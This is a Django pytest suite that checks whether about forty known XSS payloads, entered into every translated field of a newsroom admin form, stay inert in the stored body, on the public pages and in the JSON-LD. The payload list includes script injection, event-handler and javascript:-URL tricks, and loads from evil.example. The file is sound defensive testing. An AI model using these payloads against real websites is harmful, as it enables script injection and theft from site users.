"""Known XSS payloads typed into every translated field of the admin form stay inert: in the
stored body, on the public page and in its JSON-LD, in all three languages."""

import json
import re
from collections import Counter
from html.parser import HTMLParser

import pytest
from django.urls import reverse
from django.utils.translation import override

from core.language_policy import LANGUAGE_CODES as LANGUAGES
from core.sanitize import ALLOWED_TAGS
from newsroom.models import NewsRelease
from tests.html import links
from tests.images import image_bytes, upload
from tests.newsroom.admin_post import release_post_data

pytestmark = pytest.mark.django_db

TEXT_FIELDS = ("title", "dateline", "lead", "body", "image_alt", "image_caption")

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="https://example.org" onclick="alert(1)">ok</a>',
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width: expression(alert(1))">x</div>',
    "<style>@import 'http://evil.example/x.css';</style>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<link rel=stylesheet href="http://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="http://evil.example/">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--<script>alert(1)//-->",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" onmouseover="alert(1)',
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "{{ 7|add:7 }}{% debug %}${7*7}",
]

# Every text starts with this word, so a search finds the harmless and the hostile release alike.
MARKER = "Zebra"
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "srcdoc"}
BAD_SCHEME = re.compile(r"^(javascript|data|vbscript):")


def scheme_of(value):
    """A URL as a browser reads its scheme: whitespace and control characters dropped."""
    return re.sub(r"[\x00-\x20]", "", value).lower()


class Elements(HTMLParser):
    """Every element of a page, with its attributes, and the text of its JSON-LD scripts."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.elements = []
        self.jsonld = []
        self._in_jsonld = False
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))
        self._in_jsonld = tag == "script" and ("type", "application/ld+json") in attrs
        if self._in_jsonld:
            self.jsonld.append("")

    def handle_startendtag(self, tag, attrs):
        self.elements.append((tag, attrs))

    def handle_data(self, data):
        if self._in_jsonld:
            self.jsonld[-1] += data

    def handle_endtag(self, tag):
        self._in_jsonld = False

    def foreign_tags(self):
        """How many of each element neither the rich-text allow-list nor search highlighting
        explains."""
        return Counter(
            tag for tag, _attrs in self.elements if tag not in ALLOWED_TAGS | {"mark"}
        )

    def attributes(self):
        return [(tag, name, value or "") for tag, attrs in self.elements for name, value in attrs]


def assert_inert(html):
    """No event handler, no script-capable URL, in markup parsed as a browser would."""
    for tag, name, value in Elements(html).attributes():
        assert not name.startswith("on"), (tag, name, value)
        if name in URL_ATTRIBUTES:
            assert not BAD_SCHEME.match(scheme_of(value)), (tag, name, value)


def post_release(client, slug, text):
    """Post a published release through the admin with `text` in every translated field."""
    text = f"{MARKER} {text}"
    fields = {f"{field}_{code}": text for field in TEXT_FIELDS for code in LANGUAGES}
    data = release_post_data(
        slug=slug, status="published", image_credit=text,
        image=upload(image_bytes("JPEG", (60, 40))), **fields,
    )
    response = client.post(reverse("admin:newsroom_newsrelease_add"), data)
    assert response.status_code == 302, response.context["adminform"].form.errors
    return NewsRelease.objects.get(slug=slug)


def public_pages(release):
    """The release's detail page, the newsroom list and a search that finds the release (with
    highlighted passages), in each language."""
    pages = {}
    for code in LANGUAGES:
        with override(code):
            pages[f"detail-{code}"] = release.get_absolute_url()
            pages[f"list-{code}"] = reverse("newsroom:list")
            pages[f"search-{code}"] = reverse("newsroom:list") + f"?q={MARKER}"
    return pages


_baseline = {}


@pytest.fixture
def baseline(admin_client, client):
    """The foreign elements each page has with harmless text: a payload may add none.

    Made once and kept: the same harmless release always gives the same page structure."""
    if not _baseline:
        release = post_release(admin_client, "harmless", "harmless words")
        for name, url in public_pages(release).items():
            _baseline[name] = Elements(client.get(url).content.decode()).foreign_tags()
        # Gone before the payload's release is made, so the lists compare one item with one.
        release.delete()
    return _baseline


def test_there_are_at_least_thirty_payloads():
    """The suite exercises at least 30 distinct known payloads."""
    assert len(set(PAYLOADS)) >= 30


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_not_stored_active_in_the_body(admin_client, payload):
    """The body saved from the admin form keeps no element or attribute outside the
    allow-list, in any language."""
    release = post_release(admin_client, "xss", payload)
    for code in LANGUAGES:
        stored = Elements(getattr(release, f"body_{code}") or "")
        assert not stored.foreign_tags(), stored.foreign_tags()
        assert {name for _tag, name, _value in stored.attributes()} <= {"href", "title", "rel"}
        assert_inert(getattr(release, f"body_{code}") or "")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_inert_on_public_pages(admin_client, client, baseline, payload):
    """Detail and list pages in en, fr and es gain no element beyond harmless text's, and
    carry no event handler or script URL."""
    release = post_release(admin_client, "xss", payload)
    for name, url in public_pages(release).items():
        response = client.get(url)
        assert response.status_code == 200, name
        html = response.content.decode()
        assert [link for link in links(html) if f"/{release.slug}/" in link], name
        assert Elements(html).foreign_tags() == baseline[name], name
        assert_inert(html)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_cannot_break_out_of_the_json_ld(admin_client, client, payload):
    """The release page's one JSON-LD block parses, in each language, and holds the title
    as text with no `</script` in the markup."""
    release = post_release(admin_client, "xss", payload)
    for code in LANGUAGES:
        with override(code):
            html = client.get(release.get_absolute_url()).content.decode()
        blocks = Elements(html).jsonld
        assert len(blocks) == 1
        assert "</script" not in blocks[0].lower() and "<!--" not in blocks[0]
        assert json.loads(blocks[0])["headline"] == f"{MARKER} {payload}"
